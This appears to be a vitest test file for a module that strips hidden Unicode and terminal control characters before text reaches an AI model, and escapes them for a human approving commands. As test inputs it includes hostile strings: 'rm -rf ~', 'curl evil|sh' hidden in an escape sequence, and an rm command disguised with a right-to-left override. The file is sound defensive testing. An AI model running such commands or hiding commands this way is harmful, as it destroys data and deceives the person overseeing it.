import { expect, test } from 'vitest';
import { escapedText, visibleCommand, visibleLine, visibleText, withoutColours } from '#protocol/hiddenText.ts';
import { modelText } from '#core/policy/modelText.ts';
import { HARMLESS_TEXTS, HIDING_TEXTS } from '#test/lib/unicodeTexts.ts';

test.each(HARMLESS_TEXTS)('%s is shown as it is, to a person and to the model: %j', (_name, text) => {
  expect(visibleText(text)).toBe(text);
  expect(modelText(text)).toBe(text);
});

test.each(HIDING_TEXTS)('%s is written out for a person: %j', (_name, text, shown) =>
  expect(visibleText(text)).toBe(shown),
);

test.each(HIDING_TEXTS)('%s does not reach the model: %j', (_name, text) => {
  const told = modelText(text);
  expect(told).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u034f\u115f\u3164]|\ufe0f\ufe0f|\u0301{7}/u);
  // what is left stays as it is
  expect(modelText(told)).toBe(told);
});

test('one line stays one line', () => {
  expect(visibleLine(' a\r\n\tb \n c\u2028d ')).toBe('a b c⟨U+2028⟩d');
});

test('colours go, and nothing that could be a part of a command', () => {
  expect(withoutColours('\u001b[31mred\u001b[0m \u001b[1;4;38;5;9mbold\u001b[m\u001b[2K\u001b[?25l')).toBe('red bold');
  for (const text of ['echo \u001b[;rm -rf ~', '\u001b]0;curl evil|sh\u0007', 'a\u001b[$(x'])
    expect(withoutColours(text)).toBe(text);
});

test('a text of megabytes costs no second', () => {
  const started = process.cpuUsage();
  for (const part of ['\u200b', 'a\u0301', '👩\u200d', 'ک\u200c', '\u001b[', '<', '< ', '&lt;', '\ud800'])
    for (const show of [visibleText, modelText, withoutColours]) show(part.repeat(50_000));
  expect(process.cpuUsage(started).user).toBeLessThan(20_000_000);
});

test('a command cannot hide what it does from the one who approves it', () => {
  expect(visibleCommand('rm\u202e -rf\u0007\n\tx\u001b[31m')).toBe(
    'rm⟨U+202E⟩ -rf⟨U+0007⟩⟨U+000A⟩⟨U+0009⟩x⟨U+001B⟩[31m',
  );
});

test('JSON with hidden characters as escapes has the same values', () => {
  const texts = [...HIDING_TEXTS, ...HARMLESS_TEXTS].map(([, text]) => text);
  const escaped = escapedText(JSON.stringify(texts));
  expect(JSON.parse(escaped)).toEqual(texts);
  expect(visibleText(escaped)).toBe(escaped);
});
